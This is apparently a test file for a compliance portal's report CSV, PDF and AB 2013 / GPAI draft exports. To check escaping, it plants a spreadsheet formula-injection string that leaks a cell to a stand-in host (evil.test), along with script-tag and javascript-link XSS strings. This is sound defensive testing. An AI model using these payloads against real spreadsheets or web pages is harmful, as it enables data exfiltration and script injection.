/**
 * Framework packs leave the portal: every item in the report CSV (formula-guarded), the
 * contradicted and missing items in the PDF, and the vendor's own prefilled AB 2013 / GPAI-summary
 * draft on its link, before and after its sample is analyzed.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FRAMEWORKS } from '../../functions/core/frameworks';
import type { VendorDraft } from '../../functions/core/frameworks/vendor-draft';
import { crateRows } from '../fixtures/crate-rows';
import { pdfFlatText } from '../support/pdf-text';
import { completeAnswers } from './answers';
import { invitedAssessment, json, startWithStaff, type TestPortal } from './harness';
import { putAndSettle, type UploadTarget } from './upload-helpers';

const FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Open the datasheet")';
const LINEAGE = `Derived from Acme Crawl v2, deduplicated.\n${FORMULA}`;
const DESCRIPTION = '<script>alert(1)</script> [click](javascript:alert(1)) # not a heading';

let t: TestPortal;
let proc: string;
let id: string;
let token: string;
let drafts: { md: string; json: VendorDraft };

const draftPath = (f: string, format = 'md') =>
  `/api/vendor/frameworks/${f}/draft?format=${format}`;

beforeAll(async () => {
  ({ t, proc } = await startWithStaff({ MAX_SAMPLE_BYTES: '1000000' }));
  ({ id, token } = await invitedAssessment(t, proc));
  const answers = completeAnswers({ lineage: LINEAGE, dataset_description: DESCRIPTION });
  expect((await t.call('PUT', '/api/vendor/answers', { token, body: { answers } })).status).toBe(
    200,
  );
  // the drafts as they stand before any sample: taken now, checked below
  const md = await t.call('GET', draftPath('ca-ab2013'), { token });
  const js = await t.call('GET', draftPath('ca-ab2013', 'json'), { token });
  drafts = { md: await md.text(), json: await json<VendorDraft>(js) };
  const body = `${crateRows(0, 120)}\n`;
  const res = await t.call('POST', '/api/vendor/samples', {
    token,
    body: {
      fileName: 'sample.jsonl',
      role: 'training',
      sizeBytes: Buffer.byteLength(body),
      contentType: 'application/jsonl',
    },
  });
  expect(res.status).toBe(201);
  await putAndSettle(t, await json<UploadTarget>(res), body);
  expect((await t.call('POST', '/api/vendor/submit', { token })).status).toBe(200);
  await t.drain();
}, 120_000);
afterAll(async () => {
  await t.stop();
});

async function reportVersion() {
  const a = await json<{ report: { version: number } }>(
    t.call('GET', `/api/assessments/${id}`, { token: proc }),
  );
  return a.report.version;
}

describe('the report CSV lists every framework item', () => {
  it('has one formula-guarded row per item of every framework, with status and evidence', async () => {
    const res = await t.call('GET', `/api/assessments/${id}/reports/${await reportVersion()}/csv`, {
      token: proc,
    });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const items = rows.filter((r) => r.kind === 'framework');
    expect(items.length).toBe(FRAMEWORKS.reduce((n, f) => n + f.items.length, 0));
    for (const f of FRAMEWORKS)
      expect(items.filter((r) => r.framework === f.title).length, f.id).toBe(f.items.length);
    const sources = items.find((r) => r.item === 'ab2013-1 (§ 3111(a)(1))');
    expect(sources?.name).toBe('Sources or owners of the datasets');
    expect(sources?.status).toMatch(/^(answered|measured)$/);
    // the vendor's formula is there as text, after an apostrophe, never at a cell's or line's start
    expect(sources?.evidence).toContain(`'${FORMULA}`);
    expect(csv).not.toMatch(/(^|[\r\n,]|,")=HYPERLINK/m);
    const firstUse = items.find((r) => r.item?.startsWith('ab2013-11 '));
    expect(firstUse?.status).toBe('missing');
    expect(firstUse?.evidence).toMatch(/^Why it is missing: /);
    // factor rows keep their columns, the framework ones stay empty
    const factor = rows.find((r) => r.kind === 'factor');
    if (factor) expect(factor.framework).toBe('');
  });
});

describe('the report PDF has a Frameworks section', () => {
  it('counts each framework by status and lists contradicted and missing items with evidence', async () => {
    const res = await t.call('GET', `/api/assessments/${id}/reports/${await reportVersion()}/pdf`, {
      token: proc,
    });
    expect(res.status).toBe(200);
    const text = await pdfFlatText(new Uint8Array(await res.arrayBuffer()));
    expect(text).toContain('Frameworks');
    for (const f of FRAMEWORKS) {
      expect(text, f.id).toContain(f.title.replace(/[–—]/g, '-'));
      expect(text).toMatch(
        new RegExp(
          `${f.items.length} items: \\d+ contradicted, \\d+ measured, \\d+ answered, \\d+ missing\\.`,
        ),
      );
    }
    expect(text).toMatch(
      /§ 3111\(a\)\(11\) The dates the datasets were first used in development: missing/,
    );
    expect(text).toContain("Why: The model's developer knows when it first used the data");
  });
});

describe('GET /api/vendor/frameworks/{framework}/draft', () => {
  it('gives a draft before submission from the current answers, measurements not yet made', () => {
    expect(drafts.json.draft).toBe(true);
    expect(drafts.json.answersFrom.submittedAt).toBeNull();
    expect(drafts.json.notice).toMatch(/draft, not legal advice/);
    expect(drafts.json.notice).toMatch(
      /generated it on \d{4}-\d{2}-\d{2} from your current answers/,
    );
    const records = drafts.json.items.find((i) => i.id === 'ab2013-3');
    expect(records?.measurements).toEqual([
      { ref: 'records', label: 'records in the sample', text: 'not measured yet' },
    ]);
    const sources = drafts.json.items.find((i) => i.id === 'ab2013-1');
    expect(sources?.answers.find((a) => a.questionId === 'lineage')?.text).toBe(LINEAGE);
    expect(drafts.json.items.find((i) => i.id === 'ab2013-11')?.status).toBe('to_complete');
    expect(drafts.md).toMatch(/^# Draft: California AB 2013/);
    expect(drafts.md).toContain('not measured yet');
  });

  it('escapes the vendor’s words in Markdown: no tag, link or heading comes through', () => {
    expect(drafts.md).not.toContain('<script>');
    expect(drafts.md).toContain('\\[click\\](javascript:alert(1))');
    expect(drafts.md).not.toMatch(/[^\\]\]\(/);
    expect(drafts.md).toContain('\\<script\\>alert(1)\\</script\\>');
    expect(drafts.md).toContain('\\# not a heading');
    expect(drafts.md).toContain('\\=HYPERLINK');
    expect(drafts.md).not.toMatch(/^\s*=HYPERLINK/m);
  });

  it('adds the measurements of the analyzed sample and the submission date afterwards', async () => {
    const res = await t.call('GET', draftPath('eu-gpai-summary', 'json'), { token });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="draft-eu-gpai-summary.json"',
    );
    const d = await json<VendorDraft>(res);
    expect(d.framework.id).toBe('eu-gpai-summary');
    expect(d.answersFrom.submittedAt).not.toBeNull();
    expect(d.notice).toMatch(/from your answers as submitted on \d{4}-\d{2}-\d{2}/);
    const size = d.items.find((i) => i.id === 'gpai-1.3');
    expect(size?.measurements.find((m) => m.ref === 'training.records')?.text).toBe('120');
    const md = await t.call('GET', draftPath('ca-ab2013'), { token });
    expect(md.headers.get('content-type')).toMatch(/^text\/markdown/);
    expect(await md.text()).toContain('- Measured (training sample): records in the sample: 120');
  });

  it('answers 404 for a framework without a draft, naming the ones with one', async () => {
    for (const f of ['eu-ai-act-art10', 'sox']) {
      const res = await t.call('GET', draftPath(f), { token });
      expect(res.status, f).toBe(404);
      expect(res.headers.get('content-type')).toMatch(/problem\+json/);
      const body = (await res.json()) as { detail: string; errors: { path: string }[] };
      expect(body.detail).toMatch(/available for: ca-ab2013, eu-gpai-summary/);
      expect(body.errors[0]?.path).toBe('framework');
    }
  });

  it('refuses an unknown format and a staff token', async () => {
    const bad = await t.call('GET', draftPath('ca-ab2013', 'html'), { token });
    expect(bad.status).toBe(400);
    const body = (await bad.json()) as { errors: { path: string; message: string }[] };
    expect(body.errors[0]).toMatchObject({ path: 'format', message: expect.stringMatching(/md/) });
    expect((await t.call('GET', draftPath('ca-ab2013'), { token: proc })).status).toBe(401);
  });
});
